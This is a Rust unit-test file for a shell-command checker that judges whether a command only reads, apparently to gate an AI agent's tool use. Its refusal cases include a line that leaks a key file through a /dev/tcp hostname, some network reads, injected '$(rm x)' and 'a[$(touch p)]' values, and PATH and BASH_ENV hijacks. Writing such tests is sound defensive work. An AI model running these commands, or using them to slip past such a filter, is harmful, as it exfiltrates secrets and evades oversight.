//! Unit tests of the read-only judgement: one behaviour each, with the reason where it says
//! something the model must be told.

use pretty_assertions::assert_eq;

use super::read_only;

fn assert_read_only(commands: &[&str]) {
    for command in commands {
        assert_eq!(read_only(command), Ok(()), "{command}");
    }
}

fn assert_not_read_only(commands: &[&str]) {
    for command in commands {
        assert!(read_only(command).is_err(), "judged read-only: {command}");
    }
}

fn reason(command: &str) -> String {
    read_only(command).unwrap_err()
}

#[test]
fn the_reason_names_the_part_that_writes() {
    assert_eq!(
        reason("sed -i 's/a/b/' f"),
        "`sed -i 's/a/b/' f`: `sed -i` edits files in place"
    );
    assert_eq!(
        reason("ls && echo x > f"),
        "`> f` writes to a file; only `> /dev/null` and duplications such as `2>&1` may be used"
    );
    assert_eq!(
        reason("echo $(rm x)"),
        "`rm x`: `rm` is not one of the commands known to only read"
    );
}

#[test]
fn redirections_only_to_dev_null_or_other_descriptors() {
    assert_read_only(&[
        "ls >/dev/null 2>&1",
        "ls &>/dev/null",
        "echo x >&2",
        "ls 2>/dev/stderr",
    ]);
    assert_not_read_only(&["ls > f", "ls 2>> log", "exec 3>f", "ls >& out"]);
}

#[test]
fn input_redirections_read_anything_but_the_network() {
    assert_read_only(&[
        "while read -r l; do echo \"$l\"; done < notes.txt",
        "wc -l < \"src/$f\"",
        "cat < <(ls)",
        "grep x <<< \"$y\"",
    ]);
    assert_not_read_only(&[
        "cat < /dev/tcp/example.com/80",
        "exec 3</dev/udp/10.0.0.1/53",
        "cat < \"$f\"",
        "cat < \"/dev/tcp/$(cat key).example.com/80\"",
    ]);
}

#[test]
fn sed_scripts_are_read_command_by_command() {
    assert_read_only(&[
        "sed -n '/w /p' f",
        "sed 's/a/w/g' f",
        "sed -e 's|x|e|' -e '$!d' f",
        "sed '/^#/d; s/ *$//' f",
        "sed -n '2{p;q}' f",
        "sed 'a\\\nappended' f",
    ]);
    assert_not_read_only(&[
        "sed 's/a/b/gw out' f",
        "sed -n '/x/{w out\n}' f",
        "sed '2e ls' f",
        "sed 's/a/b/e' f",
        "sed --expression='w out' f",
    ]);
}

#[test]
fn awk_comparisons_are_not_redirections() {
    assert_read_only(&[
        "awk '$2 > 10' f",
        "awk '{ print ($1 > $2) }' f",
        "awk '/a|b/' f",
        "awk '{ x = \"a > b | c\"; print x }' f",
        "awk 'BEGIN { getline line < \"f\"; print line }'",
    ]);
    assert_not_read_only(&[
        "awk '{ print > $1 }' f",
        "awk '{ printf(\"%s\", $0) > \"out\" }' f",
        "awk '{ print | \"cat\" }' f",
        "awk 'BEGIN { system(\"ls\") }'",
    ]);
}

#[test]
fn find_runs_only_reading_commands() {
    assert_read_only(&["find . -exec grep -l x {} +", "find . -execdir cat {} \\;"]);
    assert_not_read_only(&[
        "find . -exec rm {} \\;",
        "find . -exec grep x {} \\; -delete",
        "find . -exec sed -i s/a/b/ {} +",
    ]);
}

#[test]
fn xargs_input_could_be_an_option() {
    assert_read_only(&[
        "ls | xargs cat",
        "ls | xargs -I{} grep -l x {}",
        "ls | xargs",
    ]);
    let refused = reason("ls | xargs sort");
    assert!(refused.contains("could be options"), "{refused}");
}

#[test]
fn arguments_known_only_when_the_command_runs_are_refused_where_they_could_be_options() {
    // A reader with no writing option may be given anything.
    assert_read_only(&[
        "cat $(git ls-files)",
        "grep -n x \"$f\"",
        "head -n \"$n\" f",
    ]);
    // A writer's option could hide in them, also after word splitting or a glob.
    assert_not_read_only(&[
        "sort $(echo -o f) x",
        "sort \"$opt\" x",
        "sed 's/a/b/' *",
        "x='-i s/a/b/'; sed $x f",
        "git log \"$range\"",
    ]);
    // Unless they cannot start with `-`, or only the value of an option is unknown.
    assert_read_only(&[
        "sort \"./$f\"",
        "sed -n 1p src/*.rs",
        "git log --since=\"$(date +%F)\" -1",
        "git log -- \"$f\"",
    ]);
}

#[test]
fn long_options_are_refused_also_when_shortened() {
    assert_not_read_only(&[
        "sort --out=x f",
        "sed --in-pl 's/a/b/' f",
        "git diff --outp=x",
        "date --se=now",
    ]);
}

#[test]
fn git_branch_and_tag_only_list() {
    assert_read_only(&[
        "git branch -a --contains HEAD",
        "git branch --list 'x/*'",
        "git branch -vv",
        "git tag -l 'v*'",
        "git tag --points-at HEAD",
    ]);
    assert_not_read_only(&[
        "git branch topic",
        "git branch -r topic",
        "git branch -c a b",
        "git tag v2",
        "git tag -s v2",
    ]);
}

#[test]
fn git_config_only_reads() {
    assert_read_only(&[
        "git config user.name",
        "git config --get core.editor",
        "git config get user.name",
        "git config --list --show-origin",
    ]);
    assert_not_read_only(&[
        "git config user.name ann",
        "git config set user.name ann",
        "git config --replace-all a.b c",
    ]);
}

#[test]
fn git_options_that_run_programs_are_refused() {
    assert_not_read_only(&[
        "git -c core.pager=less log",
        "git --exec-path=/tmp log",
        "git ls-remote origin",
        "git remote show origin",
        "git grep --open-files-in-pager=vi x",
        "git grep -nO x",
        "git -ccore.pager=x log",
        "git help log",
    ]);
}

#[test]
fn variables_that_change_what_programs_run_are_refused() {
    assert_read_only(&[
        "LC_ALL=C sort f",
        "GIT_PAGER=cat git log",
        "x=1; echo $x",
        "while IFS= read -r line; do echo \"$line\"; done < f",
        "IFS=$'\\n'; for f in $(ls); do echo $f; done",
        "export LANG=C; ls",
    ]);
    assert_not_read_only(&[
        "GIT_CONFIG_COUNT=1 git log",
        "export GIT_DIR=/tmp/x; git status",
        ": ${GIT_DIR:=/tmp/x}; export GIT_DIR; git status",
        "((HOME = 0)); git status",
        "IFS=_; x=a_-o_f; sort $x",
        "BASH_ENV=x zgrep a f",
        "PS4='$(rm x)'; set -x; ls",
        "x=PATH; declare -n r=$x; r=.; ls",
        "declare -n r; r=PATH; r=.; ls",
    ]);
}

#[test]
fn shell_state_builtins_that_run_code_are_refused() {
    assert_read_only(&[
        "mapfile -t lines < f",
        "cd src && ls",
        "set -euo pipefail; ls",
    ]);
    assert_not_read_only(&[
        "mapfile -C 'rm x' -c 1 lines < f",
        "trap 'rm x' EXIT",
        "enable -f ./x.so x",
    ]);
}

#[test]
fn build_tools_and_interpreters_may_only_be_asked_their_version() {
    assert_read_only(&[
        "python3 --version",
        "go version",
        "java -version",
        "node -v",
    ]);
    assert_not_read_only(&["yarn version", "npm version patch", "python3 -c 'print(1)'"]);
}

#[test]
fn programs_are_run_by_name_or_from_the_system_directories() {
    assert_read_only(&["/usr/bin/git status", "/bin/ls"]);
    assert_not_read_only(&["./ls", "bin/cat f", "/tmp/ls"]);
}

#[test]
fn what_cannot_be_parsed_is_refused() {
    assert_not_read_only(&["ls (", "cat <> f"]);
}

#[test]
fn arithmetic_on_anything_but_numbers_is_refused() {
    assert_not_read_only(&[
        "x='a[$(touch p)]'; echo $((x))",
        "(( x ))",
        "echo $[x]",
        "for ((i=x;;)); do :; done",
        "[[ $x -eq 0 ]]",
        "echo ${b[x]}",
        "echo ${x:off:1}",
        "a[i]=1",
        "a=([i]=1)",
        "declare -i x='a[$(touch p)]'",
        "let x=1",
        "echo ${x:-$((y))}",
    ]);
    assert_read_only(&[
        "echo $((1 + 2))",
        "(( 1 < 2 ))",
        "[[ $# -eq 0 ]]",
        "[[ 3 -gt 2 ]]",
        "[ \"$x\" -eq 0 ]",
        "echo ${b[1]} ${b[@]} ${#b[*]} ${x:1:2} ${x: -1}",
        "echo ${x:-default} ${x#pre} ${#x}",
    ]);
}

#[test]
fn indirection_and_prompt_expansion_are_refused() {
    assert_not_read_only(&["echo ${!x}", "echo \"${x@P}\"", "echo \"${x@E}\""]);
    assert_read_only(&["echo ${!arr[@]} ${!prefix*}", "echo \"${x@Q}\" \"${x@U}\""]);
}

#[test]
fn a_variable_name_with_an_evaluated_index_is_refused() {
    assert_not_read_only(&[
        "test -v 'a[$(touch p)]'",
        "[ -v 'a[$(touch p)]' ]",
        "[[ -v 'a[$(touch p)]' ]]",
        "[ -v \"$name\" ]",
        "[ $op \"$name\" ]",
        "printf -v 'a[$(touch p)]' x",
        "printf -v \"$name\" x",
        "read 'a[$(touch p)]'",
        "read -ra 'a[$(touch p)]'",
        "mapfile -t 'a[$(touch p)]' < f",
        "wait -n -p 'a[$(touch p)]'",
        "unset 'a[$(touch p)]'",
        "declare 'a[$(touch p)]=1'",
    ]);
    assert_read_only(&[
        "test -v HOME",
        "[[ -v a[1] ]]",
        "[ -n \"$x\" ]",
        "[ \"$a\" = \"$b\" ]",
        "printf -v line '%s' x",
        "read -r line < f",
        "mapfile -t lines < f",
    ]);
}

#[test]
fn a_short_version_option_counts_only_where_it_means_version() {
    assert_not_read_only(&[
        "echo 'open(\"x\",\"w\")' | python3 -v",
        "python -v",
        "ruby -v",
        "gcc -v",
        "swift -v",
    ]);
    assert_read_only(&[
        "python3 -V",
        "python3 --version",
        "node -v",
        "perl -v",
        "ruby --version",
    ]);
}

#[test]
fn git_global_options_must_be_known() {
    assert_not_read_only(&[
        "git --attr-source status branch X",
        "git --frobnicate status",
        "git -p log",
        "git --paginate log",
        "git -h branch",
        "git --help status",
    ]);
    assert_read_only(&[
        "git --attr-source HEAD status",
        "git --attr-source=HEAD status",
        "git --no-pager -C sub --git-dir=.git log",
        "git --version",
        "git --list-cmds=main",
    ]);
}

#[test]
fn a_sed_label_ends_at_a_blank_as_gnu_sed_reads_it() {
    assert_not_read_only(&[
        "sed -n ':a w out' f",
        "sed -n 'b end w out' f",
        "sed -n 't x W out' f",
        "sed -n 'v 4.2 w out' f",
    ]);
    assert_read_only(&["sed -n ':a;N;$!ba;p' f", "sed -e :a -e '$!N;ba' f"]);
}

#[test]
fn every_spelling_of_in_place_is_refused() {
    assert_not_read_only(&[
        "yq --in-place '.a = 1' f.yaml",
        "yq --inplace '.a = 1' f.yaml",
        "yq -i '.a = 1' f.yaml",
        "sed --in-place=.bak 's/a/b/' f",
    ]);
}

#[test]
fn git_branch_with_a_name_only_lists_after_list_or_a_filter() {
    assert_not_read_only(&[
        "git branch -v NAME",
        "git branch --verbose NAME",
        "git branch -vv NAME",
        "git branch -a NAME",
    ]);
    assert_read_only(&[
        "git branch -v",
        "git branch --list 'feat/*'",
        "git branch -v --list 'feat/*'",
        "git branch --merged main",
    ]);
}

#[test]
fn a_word_that_may_become_several_counts_as_several_operands() {
    assert_not_read_only(&[
        "uniq f.yaml{,.out}",
        "uniq {a,b}",
        "uniq f{1..2}",
        "xxd f{1..2}",
        "xxd {a,b}",
    ]);
    assert_read_only(&["uniq f.txt", "xxd f.bin", "uniq -c f.txt"]);
}

#[test]
fn git_remote_show_is_offline_only_with_n_as_an_option() {
    assert_not_read_only(&["git remote show origin -- -n"]);
    assert_read_only(&["git remote show -n origin", "git remote show origin -n"]);
}

#[test]
fn binutils_plugins_are_refused() {
    assert_not_read_only(&[
        "nm --plugin lib.so a.o",
        "objdump --plugin=lib.so -d a.o",
        "nm --plu lib.so a.o",
    ]);
    assert_read_only(&[
        "nm -C a.o",
        "objdump -d a.o",
        "readelf -h a.out",
        "size a.out",
    ]);
}
